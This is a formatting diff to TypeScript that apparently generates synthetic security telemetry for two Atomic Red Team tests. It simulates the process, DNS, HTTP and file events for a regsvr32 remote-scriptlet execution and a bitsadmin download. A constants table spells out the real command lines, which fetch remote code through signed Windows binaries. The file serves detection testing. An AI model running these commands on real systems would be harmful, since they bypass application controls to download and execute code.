@@ -9,8 +9,10 @@ import {hashesOf} from './process-table.js';
 
 export const ATOMIC_COMMANDS = {
 	'T1218.010-1': 'regsvr32.exe /s /u /i:PathToAtomicsFolder\\T1218.010\\src\\RegSvr32.sct scrobj.dll',
-	'T1218.010-2': 'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll',
-	'T1197-1': 'bitsadmin.exe /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1',
+	'T1218.010-2':
+		'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll',
+	'T1197-1':
+		'bitsadmin.exe /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1',
 } as const;
 
 export type AtomicId = keyof typeof ATOMIC_COMMANDS;
@@ -43,7 +45,11 @@ export function atomicSteps(ctx: GenContext, hs: HostState, s: Session, id: Atom
 		t => {
 			ps = operatorShells.get(s);
 			if (alive(ps) || !alive(s.shell)) return undefined;
-			ps = hs.procs.spawn(s.shell, {image: POWERSHELL, cmdline: `"${POWERSHELL}" `, user: s.account, integrity: 'HIGH', signer: MS_WINDOWS}, t);
+			ps = hs.procs.spawn(
+				s.shell,
+				{image: POWERSHELL, cmdline: `"${POWERSHELL}" `, user: s.account, integrity: 'HIGH', signer: MS_WINDOWS},
+				t,
+			);
 			hs.procs.pin(ps);
 			operatorShells.set(s, ps);
 			return event(run, 'Process Creation', t, s.shell, {process: ps});
@@ -54,30 +60,55 @@ export function atomicSteps(ctx: GenContext, hs: HostState, s: Session, id: Atom
 		// The prerequisite: Invoke-AtomicTest -GetPrereqs fetches the scriptlet first.
 		const sct = 'C:\\AtomicRedTeam\\atomics\\T1218.010\\src\\RegSvr32.sct';
 		steps.push(
-			t => (alive(ps) ? event(run, 'DNS', t, ps, {dns: {query: GITHUB_RAW.name, answers: GITHUB_RAW_ANSWERS, ok: true}}) : undefined),
+			t =>
+				alive(ps)
+					? event(run, 'DNS', t, ps, {dns: {query: GITHUB_RAW.name, answers: GITHUB_RAW_ANSWERS, ok: true}})
+					: undefined,
 			t => (alive(ps) ? tag(run, outgoing(ctx, hs, t, ps, GITHUB_RAW)) : undefined),
-			t => (alive(ps) ? event(run, 'File Creation', t, ps, {file: {path: sct, size: 1052, hashes: hashesOf(sct)}}) : undefined),
+			t =>
+				alive(ps)
+					? event(run, 'File Creation', t, ps, {file: {path: sct, size: 1052, hashes: hashesOf(sct)}})
+					: undefined,
 		);
 	}
 	steps.push(t => {
 		if (!alive(ps)) return undefined;
-		cmd = hs.procs.spawn(ps, {image: CMD, cmdline: `"${CMD}" /c "${ATOMIC_COMMANDS[id]}"`, user: ps.user, integrity: ps.integrity, signer: MS_WINDOWS}, t);
+		cmd = hs.procs.spawn(
+			ps,
+			{
+				image: CMD,
+				cmdline: `"${CMD}" /c "${ATOMIC_COMMANDS[id]}"`,
+				user: ps.user,
+				integrity: ps.integrity,
+				signer: MS_WINDOWS,
+			},
+			t,
+		);
 		hs.procs.pin(cmd);
 		return event(run, 'Process Creation', t, ps, {process: cmd});
 	});
 	steps.push(t => {
 		if (!alive(cmd)) return undefined;
 		const image = id === 'T1197-1' ? `${WIN.system32}\\bitsadmin.exe` : `${WIN.system32}\\regsvr32.exe`;
-		tool = hs.procs.spawn(cmd, {image, cmdline: ATOMIC_COMMANDS[id], user: cmd.user, integrity: cmd.integrity, signer: MS_WINDOWS}, t);
+		tool = hs.procs.spawn(
+			cmd,
+			{image, cmdline: ATOMIC_COMMANDS[id], user: cmd.user, integrity: cmd.integrity, signer: MS_WINDOWS},
+			t,
+		);
 		hs.procs.pin(tool);
 		return event(run, 'Process Creation', t, cmd, {process: tool});
 	});
 	if (id === 'T1218.010-2') {
-		const url = 'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct';
+		const url =
+			'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct';
 		steps.push(
-			t => (alive(tool) ? event(run, 'DNS', t, tool, {dns: {query: GITHUB_RAW.name, answers: GITHUB_RAW_ANSWERS, ok: true}}) : undefined),
+			t =>
+				alive(tool)
+					? event(run, 'DNS', t, tool, {dns: {query: GITHUB_RAW.name, answers: GITHUB_RAW_ANSWERS, ok: true}})
+					: undefined,
 			t => (alive(tool) ? tag(run, outgoing(ctx, hs, t, tool, GITHUB_RAW)) : undefined),
-			t => (alive(tool) ? event(run, 'HTTP Request', t, tool, {http: {url, method: 'GET', via: 'WININET'}}) : undefined),
+			t =>
+				alive(tool) ? event(run, 'HTTP Request', t, tool, {http: {url, method: 'GET', via: 'WININET'}}) : undefined,
 		);
 	}
 	if (id === 'T1197-1') {
@@ -98,7 +129,17 @@ export function atomicSteps(ctx: GenContext, hs: HostState, s: Session, id: Atom
 		// The scriptlet's payload.
 		steps.push(t => {
 			if (!alive(tool)) return undefined;
-			const calc = hs.procs.spawn(tool, {image: `${WIN.system32}\\calc.exe`, cmdline: 'calc.exe', user: tool.user, integrity: tool.integrity, signer: MS_WINDOWS}, t);
+			const calc = hs.procs.spawn(
+				tool,
+				{
+					image: `${WIN.system32}\\calc.exe`,
+					cmdline: 'calc.exe',
+					user: tool.user,
+					integrity: tool.integrity,
+					signer: MS_WINDOWS,
+				},
+				t,
+			);
 			return event(run, 'Process Creation', t, tool, {process: calc});
 		});
 	}
@@ -113,18 +154,31 @@ export function atomicSteps(ctx: GenContext, hs: HostState, s: Session, id: Atom
 		steps.push(
 			t => {
 				if (!alive(ps)) return undefined;
-				del = hs.procs.spawn(ps, {image: CMD, cmdline: `"${CMD}" /c "${cleanup}"`, user: ps.user, integrity: ps.integrity, signer: MS_WINDOWS}, t);
+				del = hs.procs.spawn(
+					ps,
+					{image: CMD, cmdline: `"${CMD}" /c "${cleanup}"`, user: ps.user, integrity: ps.integrity, signer: MS_WINDOWS},
+					t,
+				);
 				hs.procs.pin(del);
 				return event(run, 'Process Creation', t, ps, {process: del});
 			},
-			t => (alive(del) ? event(run, 'File Deletion', t, del, {file: {path: `${home}\\AppData\\Local\\Temp\\bitsadmin1_flag.ps1`}}) : undefined),
+			t =>
+				alive(del)
+					? event(run, 'File Deletion', t, del, {file: {path: `${home}\\AppData\\Local\\Temp\\bitsadmin1_flag.ps1`}})
+					: undefined,
 			t => (alive(del) ? exit(run, t, del) : undefined),
 		);
 	}
 	return steps;
 }
 
-function event(run: Run, category: DemoEvent['category'], time: number, actor: DemoProcess, target: DemoEvent['target']): DemoEvent {
+function event(
+	run: Run,
+	category: DemoEvent['category'],
+	time: number,
+	actor: DemoProcess,
+	target: DemoEvent['target'],
+): DemoEvent {
 	return makeEvent(category, time, run.hs, actor, target, run.id);
 }
 
